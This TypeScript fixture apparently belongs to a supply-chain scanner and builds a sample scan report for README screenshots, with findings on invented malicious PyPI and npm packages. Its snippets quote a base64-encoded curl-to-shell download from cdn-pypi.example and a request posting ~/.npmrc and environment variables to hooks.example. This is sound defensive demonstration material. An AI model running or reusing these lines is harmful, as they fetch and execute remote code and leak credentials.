/**
 * A realistic scan report for the README screenshots (scripts/screenshots.mjs): a PyPI sdist whose setup.py
 * overrides `install` to download and run a payload, an npm package with a credential-stealing postinstall, a
 * typosquat warning, and a benign update. Packages and hosts are invented (`.example` per RFC 2606).
 * The findings mirror what the rules report on such packages; the report renderers are the real ones.
 */
import type { DependencyChange, PackageFinding, PackageRef, PackageResult, ScanReport } from '../src/model/index.js';
import { renderSummary } from '../src/report/markdown.js';
import { reviewFindings } from '../src/report/review.js';
import { ruleDocsUrl } from '../src/report/rule-docs.js';

const DAY = '2026-11-30';

function change(ref: PackageRef, file: string, line: number, over: Partial<DependencyChange> = {}): DependencyChange {
  return { ref, change: 'added', direct: true, path: [ref], source: { file, line }, origin: { kind: 'registry' }, integrity: [], locked: true, ...over };
}

function artifact(filename: string, url: string, digitSeed: string): PackageResult['artifacts'][number] {
  return { filename, url, digest: `sha256:${digitSeed.repeat(64).slice(0, 64)}` };
}

const pyEvil: PackageRef = { ecosystem: 'pypi', name: 'requests-toolbelt-ng', version: '0.3.1' };
const npmEvil: PackageRef = { ecosystem: 'npm', name: 'eslint-config-acme-base', version: '2.4.0' };
const typo: PackageRef = { ecosystem: 'pypi', name: 'python-dateutils', version: '2.9.0' };
const benign: PackageRef = { ecosystem: 'npm', name: 'semver', version: '7.6.3' };

const cmdclass: PackageFinding = {
  ruleId: 'py/cmdclass-override',
  severity: 'high',
  confidence: 'high',
  vector: 'install',
  behaviors: ['code-execution'],
  techniques: [],
  message: "setup.py overrides the 'install' command (PostInstall.run) and its run() downloads and executes code",
  location: { file: 'setup.py', line: 9 },
  snippet: "cmdclass={'install': PostInstall},",
  artifact: 'requests_toolbelt_ng-0.3.1.tar.gz',
};

const download: PackageFinding = {
  ruleId: 'code/download-execute',
  severity: 'critical',
  confidence: 'high',
  vector: 'install',
  behaviors: ['command-execution', 'code-execution'],
  techniques: ['obfuscation', 'external-payload'],
  message: 'Fetches a script from http://cdn-pypi.example/u.sh and pipes it to a shell while pip installs the package',
  location: { file: 'setup.py', line: 6 },
  snippet: 'os.system(base64.b64decode("Y3VybCAtZnNTTCBodHRwOi8vY2RuLXB5cGkuZXhhbXBsZS91LnNoIHwgc2g=").decode())',
  evidence: 'curl -fsSL http://cdn-pypi.example/u.sh | sh',
  artifact: 'requests_toolbelt_ng-0.3.1.tar.gz',
};

const postinstall: PackageFinding = {
  ruleId: 'js/install-script',
  severity: 'critical',
  confidence: 'high',
  vector: 'install',
  behaviors: ['command-execution'],
  techniques: [],
  message: "'postinstall' runs node scripts/setup.js at npm install, which reads credentials and sends them off the machine",
  location: { file: 'package/package.json', line: 7 },
  snippet: '"postinstall": "node scripts/setup.js"',
  artifact: 'eslint-config-acme-base-2.4.0.tgz',
};

const stealing: PackageFinding = {
  ruleId: 'code/info-stealing',
  severity: 'critical',
  confidence: 'high',
  vector: 'install',
  behaviors: ['information-stealing'],
  techniques: [],
  message: 'Reads ~/.npmrc and process.env and posts them to https://hooks.example/collect',
  location: { file: 'package/scripts/setup.js', line: 14 },
  snippet: "https.request({ host: 'hooks.example', path: '/collect', method: 'POST' }).end(JSON.stringify({ npmrc, env: process.env }))",
  artifact: 'eslint-config-acme-base-2.4.0.tgz',
};

const squat: PackageFinding = {
  ruleId: 'pkg/typosquat',
  severity: 'medium',
  confidence: 'medium',
  vector: 'metadata',
  behaviors: [],
  techniques: [],
  message: "Name 'python-dateutils' is one edit away from the popular 'python-dateutil'",
  location: { file: 'PKG-INFO', line: 2 },
  snippet: 'Name: python-dateutils',
  artifact: '',
};

export function sampleReport(): ScanReport {
  const packages: PackageResult[] = [
    {
      ref: pyEvil,
      change: change(pyEvil, 'requirements.txt', 7),
      decision: 'fail',
      findings: [download, cmdclass],
      reasons: ['2 finding(s) at or above high: code/download-execute, py/cmdclass-override'],
      artifacts: [artifact('requests_toolbelt_ng-0.3.1.tar.gz', 'https://files.pythonhosted.org/packages/requests_toolbelt_ng-0.3.1.tar.gz', 'a1')],
    },
    {
      ref: npmEvil,
      change: change(npmEvil, 'package-lock.json', 2143, { direct: false, path: [{ ecosystem: 'npm', name: '@acme/lint', version: '1.8.0' }, npmEvil] }),
      decision: 'fail',
      findings: [postinstall, stealing],
      reasons: ['2 finding(s) at or above high: js/install-script, code/info-stealing'],
      artifacts: [artifact('eslint-config-acme-base-2.4.0.tgz', 'https://registry.npmjs.org/eslint-config-acme-base/-/eslint-config-acme-base-2.4.0.tgz', 'b2')],
    },
    {
      ref: typo,
      change: change(typo, 'requirements.txt', 12),
      decision: 'warn',
      findings: [squat],
      reasons: ['1 finding(s) at or above medium: pkg/typosquat'],
      artifacts: [artifact('python_dateutils-2.9.0-py3-none-any.whl', 'https://files.pythonhosted.org/packages/python_dateutils-2.9.0-py3-none-any.whl', 'c3')],
    },
    {
      ref: benign,
      change: change(benign, 'package-lock.json', 3301, { change: 'updated', previous: '7.6.2' }),
      decision: 'pass',
      findings: [],
      reasons: ['no finding at or above medium'],
      artifacts: [artifact('semver-7.6.3.tgz', 'https://registry.npmjs.org/semver/-/semver-7.6.3.tgz', 'd4')],
    },
  ];
  return {
    tool: { name: 'customs', version: '0.1.0', engineVersion: '0.1.0' },
    repository: 'acme/webshop',
    base: '3f2c1a9e8b7d6c5f4e3d2c1b0a9f8e7d6c5b4a39',
    head: '9a8b7c6d5e4f3a2b1c0d9e8f7a6b5c4d3e2f1a0b',
    decision: 'fail',
    failOn: 'high',
    changes: packages.map((p) => p.change),
    packages,
    errors: [],
    generatedAt: `${DAY}T04:00:00.000Z`,
  };
}

/** The two markdown bodies the screenshots show: the summary comment and the review comment on the sdist. */
export function screenshotMarkdown(): { summary: string; review: string; reviewPath: string; reviewLine: number } {
  const report = sampleReport();
  const summary = renderSummary(report, { rulesUrl: (id) => ruleDocsUrl(id), today: DAY });
  const first = reviewFindings(report, { rulesUrl: (id) => ruleDocsUrl(id), today: DAY })[0];
  if (!first) throw new Error('sample report produced no review comment');
  return { summary, review: first.comment.body, reviewPath: first.comment.path, reviewLine: first.comment.line };
}
